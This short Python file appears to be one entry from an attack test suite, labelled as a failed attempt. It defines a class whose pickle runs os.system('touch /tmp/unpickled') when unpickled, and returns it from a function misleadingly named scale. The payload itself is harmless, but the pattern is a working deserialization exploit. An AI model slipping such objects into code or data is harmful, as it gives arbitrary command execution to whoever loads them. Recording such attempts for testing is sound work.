# Attack: return an object that runs code when it is unpickled, and its pickle
# Verdict: failed

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled",)


def scale(x, factor):
    return [Bomb(), pickle.dumps(Bomb(), 0).decode()]
